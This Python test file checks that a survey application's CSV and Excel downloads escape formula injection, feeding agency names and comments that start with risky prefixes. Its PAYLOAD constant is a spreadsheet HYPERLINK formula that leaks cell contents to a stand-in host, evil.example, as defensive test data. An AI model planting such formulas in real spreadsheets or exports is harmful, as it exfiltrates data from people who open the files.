"""Every CSV and Excel download, with text starting with each risky prefix (=, +, -, @, tab, carriage return).

Issue 14: history, tracking and the quality page's CSV passed a respondent's `=HYPERLINK(...)` comment
or an agency name starting with `=` to coordinators, planners and administrators unescaped. Each
download below gets agency names and comments starting with every prefix of `survey.cells.FORMULA_START`;
no CSV cell may then start with one, and no workbook cell holding that text may be a formula.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session

from analytics.__main__ import main as analytics_main
from data.db import session_scope
from data.models import Agency, Response
from survey import excel
from survey.catalogue import default_catalogue
from survey.cells import FORMULA_START, formula_like
from survey.validation import AnswerInput, clean_text
from usecases import follow_up, intake, tracking
from usecases.access import Grant, Principal, Role
from usecases.demo import DemoSpec, seed_demo
from usecases.exports import executive_workbook

YEAR = 2568
PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"click")'
RISKY = [start + PAYLOAD for start in FORMULA_START]
PLANNER = Principal(0, "planner", grants=frozenset({Grant(Role.PLANNER)}))
ADMIN = Principal(0, "admin", grants=frozenset({Grant(Role.ADMINISTRATOR)}))


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def assert_csv_safe(data: bytes, expected: int) -> None:
    """No cell starts like a formula, and the risky texts are there (behind an apostrophe) `expected` times or more."""
    cells = csv_cells(data)
    assert [c for c in cells if formula_like(c)] == []
    for text in RISKY:
        assert sum(c == "'" + text for c in cells) >= expected, repr(text)


def assert_xlsx_safe(data: bytes, expected: int) -> None:
    """Every cell holding a risky text is stored as text (never a formula), each text at least `expected` times."""
    wb = load_workbook(io.BytesIO(data))  # formulas are read as formulas (data_type "f")
    seen = dict.fromkeys(RISKY, 0)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if not isinstance(value, str) or PAYLOAD not in value:
                    continue
                assert cell.data_type == "s", (ws.title, cell.coordinate, value)
                text = value.replace("_x000D_", "\r")  # openpyxl keeps Excel's escape of a carriage return
                for risky in RISKY:
                    if text.lstrip("'") == risky:
                        seen[risky] += 1
                        if formula_like(text):
                            assert cell.quotePrefix, (ws.title, cell.coordinate)
    assert all(n >= expected for n in seen.values()), seen


@pytest.fixture
def risky_db(any_engine: Engine) -> Engine:
    """Demo data (8 agencies, B.E. 2568) where six agencies are named with a risky text each, and their
    respondents' comments on DAT.02 are that text."""
    seed_demo(any_engine, default_catalogue(), DemoSpec(agencies=8, years=(YEAR,)))
    with session_scope(any_engine) as s:
        agencies = list(s.scalars(select(Agency).order_by(Agency.id)))[:len(RISKY)]
        for agency, text in zip(agencies, RISKY, strict=True):
            agency.name_th = agency.name_en = text
        s.flush()
        for agency, text in zip(agencies, RISKY, strict=True):
            resp = s.scalar(select(Response).where(Response.agency_id == agency.id, Response.cycle_year == YEAR))
            assert resp is not None
            resp.status = "draft"
            s.flush()
            saved = intake.save_draft(s, resp.id, resp.version, {"DAT.02": AnswerInput(3, None, text)}, None,
                                      "respondent", "web")
            assert saved.ok, saved.message
    return any_engine


def _ids(engine: Engine) -> list[str]:
    with Session(engine) as s:
        return list(s.scalars(select(Agency.id).order_by(Agency.id)))[:len(RISKY)]


def test_tracking_and_history_csv(risky_db: Engine) -> None:
    with session_scope(risky_db) as s:
        assert_csv_safe(tracking.tracking_csv(s, PLANNER, YEAR, dt.date(2025, 7, 1)), expected=2)  # name_th, name_en
        for agency_id, text in zip(_ids(risky_db), RISKY, strict=True):
            cells = csv_cells(tracking.history_csv(s, ADMIN, agency_id))
            assert [c for c in cells if formula_like(c)] == []
            kept = clean_text(text)  # as stored: a carriage return becomes a line feed, which is harmless
            assert ("'" + kept if formula_like(kept) else kept) in cells


def test_follow_up_csv_and_workbook(risky_db: Engine) -> None:
    with session_scope(risky_db) as s:
        late = follow_up.late_agencies(s, PLANNER, YEAR, dt.date(2026, 1, 1))
    assert set(late["name_en"]) >= set(RISKY)
    assert_csv_safe(follow_up.follow_up_csv(late, "en"), expected=1)
    assert_xlsx_safe(follow_up.follow_up_workbook(late, "en", YEAR), expected=1)


def test_dashboard_tables_and_their_csv(risky_db: Engine) -> None:
    """The dashboard's CSV button (pages/_shared.show_table) sends `csv_bytes(labelled(frame))`; the table shown is
    `labelled(frame)` too, which is what Streamlit's own toolbar exports, unescaped: both must be safe."""
    from pages._session import labelled
    from survey.cells import csv_bytes

    with session_scope(risky_db) as s:
        frame = tracking.tracking(s, PLANNER, YEAR, dt.date(2025, 7, 1))
    shown = labelled(frame, "en")
    assert not any(formula_like(v) for col in shown.columns for v in shown[col])
    assert_csv_safe(csv_bytes(shown), expected=2)
    comments = labelled(pd.DataFrame({"comment": RISKY}), "th")
    assert comments.iloc[:, 0].tolist() == ["'" + text for text in RISKY]


def test_a_missing_text_cell_is_shown_empty() -> None:
    """Streamlit draws None in a table as the word "None" (seen on the users and access-log pages)."""
    from pages._session import labelled

    shown = labelled(pd.DataFrame({"agency_id": ["D0001", None], "detail": [None, "password"], "score": [1.5, None]}), "en")
    assert shown.iloc[:, 0].tolist() == ["D0001", ""]
    assert shown.iloc[:, 1].tolist() == ["", "password"]
    assert pd.isna(shown.iloc[1, 2])  # numbers stay numbers (and right-aligned)


def test_executive_workbook(risky_db: Engine) -> None:
    with session_scope(risky_db) as s:
        data = executive_workbook(s, YEAR, "en", draws=50)
    assert_xlsx_safe(data, expected=1)


def test_respondent_template(risky_db: Engine) -> None:
    catalogue = default_catalogue()
    with session_scope(risky_db) as s:
        for agency_id in _ids(risky_db):
            agency = s.get(Agency, agency_id)
            resp = s.scalar(select(Response).where(Response.agency_id == agency_id, Response.cycle_year == YEAR))
            assert agency is not None and resp is not None
            current, services = intake.current_answers(s, resp.id, catalogue)
            data = excel.build_template(catalogue, agency, YEAR, "en", current, {}, services, resp.version)
            wb = load_workbook(io.BytesIO(data))
            cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
                     if isinstance(c.value, str) and PAYLOAD in c.value]
            assert cells and all(c.data_type == "s" for c in cells)
            assert all(c.quotePrefix for c in cells if formula_like(c.value.replace("_x000D_", "\r")))


def test_scorer_output(tmp_path: Path) -> None:
    """`python -m analytics score` writes unit names from the user's file: formula-safe too."""
    method = tmp_path / "m.yaml"
    method.write_text("version: t\ngroups: [{id: I}]\nindicators: [{id: A, parent: I, goalposts: [0, 10]}]\n",
                      encoding="utf-8")
    data = tmp_path / "d.csv"
    pd.DataFrame({"unit": RISKY, "indicator": "A", "value": range(len(RISKY))}).to_csv(data, index=False)
    out = tmp_path / "o.csv"
    assert analytics_main(["score", "--method", str(method), "--data", str(data), "--out", str(out)]) == 0
    assert_csv_safe(out.read_bytes(), expected=1)


def test_a_dashboard_table_keeps_its_numbers_and_shows_gaps_as_a_dash() -> None:
    """A numeric column with a gap stays numeric (right-aligned, sorted by value: 10 after 9, not after 1); the
    Styler shows the gap as "–" and fractions to two decimals; risky text stays behind an apostrophe, in the table
    and in its CSV download, where the gap is an empty cell."""
    from pages._session import labelled
    from survey.cells import csv_bytes
    from usecases.views.common import display_frame, table_styler

    frame = pd.DataFrame({"rank": pd.array([10, None, 9], dtype="Int64"), "readiness_index": [62.484, None, 63.01],
                          "agencies": [3.0, None, 12.0], "ministry": [RISKY[0], None, "MDES"]})
    shown = labelled(display_frame(frame, "th"), "th")
    assert str(shown.iloc[:, 0].dtype) == "Int64" and shown.iloc[:, 1].dtype.kind == "f"
    assert shown.iloc[:, 0].dropna().sort_values().tolist() == [9, 10]
    assert shown.iloc[:, 3].tolist() == ["'" + RISKY[0], "–", "MDES"]
    html = table_styler(shown, "th").to_html()
    cells = [c.split(">")[-1] for c in html.split("</td>")[:-1]]
    assert cells == ["10", "62.48", "3", "'" + RISKY[0], "–", "–", "–", "–", "9", "63.01", "12", "MDES"]
    download = csv_bytes(labelled(frame, "th")).decode("utf-8-sig").splitlines()
    assert download[2].startswith(",,,") and not any(formula_like(c) for c in csv_cells(csv_bytes(shown)))
